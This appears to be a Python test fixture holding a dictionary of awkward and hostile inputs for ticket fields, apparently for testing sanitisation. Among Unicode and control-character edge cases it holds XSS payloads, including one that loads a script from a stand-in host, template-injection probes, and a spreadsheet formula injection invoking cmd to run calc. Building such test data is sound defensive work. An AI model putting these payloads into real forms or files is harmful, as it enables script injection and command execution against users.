"""Words that are more than words: what people, or what they copy from, put into the fields of tickets."""

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"
FAMILY = "👨\u200d👩\u200d👧\u200d👦"
TRICKS = {
    "script": "<script>window.hit = 1; alert(1)</script><SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "an end and a beginning": "</textarea></title></blockquote></main><script>window.hit = 1</script><main><!--",
    "handlers": '<img src=x onerror="window.hit=1"><b onmouseover=alert(1)>b</b><details open ontoggle=alert(1)>',
    "out of an attribute": '" autofocus onfocus="window.hit=1" x=\'` onload=alert(1) data-lend=//elsewhere.example',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "an address": "javascript:alert(1)//https://x.example/\njavascript:window.hit=1",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "template": "{{7*7}} ${7*7} {% raw %}#{7*7}{{ config }} {{ ''.__class__ }} <%= 7*7 %>",
    "htmx": "<div hx-get=/ hx-trigger=load hx-on:click=alert(1)>x</div><form action=//elsewhere.example><button>Go",
    "code": "[code]<b onclick=alert(1)>b</b><script>alert(1)</script>[/code]",
    "noformat": "{noformat}<u>u</u>{noformat} {html}<script>alert(1)</script>{html} [x|javascript:alert(1)] !x.png!",
    "formula": '=HYPERLINK("https://elsewhere.example/"&A1;"Click")+cmd|\' /C calc\'!A0',
    "right to left": "\u202egnp.exe\u202d \u2066x\u2067 \u200fשלום\u200e مرحبا \u202b",
    "zero width": f"a{ZERO_WIDTH}b{ZERO_WIDTH * 50}",
    "zalgo": "Z" + "\u0300\u0301\u0315\u0330\u0489" * 200 + " normal",
    "lone marks": "\u0301\u0327\u20dd \u0e33\u0eb3",
    "without a space": "W" * 10_000,
    "wide": "﷽𒐫" * 500,
    "families": (FAMILY * 60) + "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f🇩🇪" * 40,
    "nul and controls": "a\x00b\x01\x07\x08\x1b[31mred\x1b[0m\x7f\x85\ufffe\uffff",
    "lines": "one\r\ntwo\rthree\u2028four\u2029five\x0bsix\x0cseven" + "\n" * 200 + "end",
    "blanks": "\u00a0\u2003\u3000 \t" * 200 + "end",
}
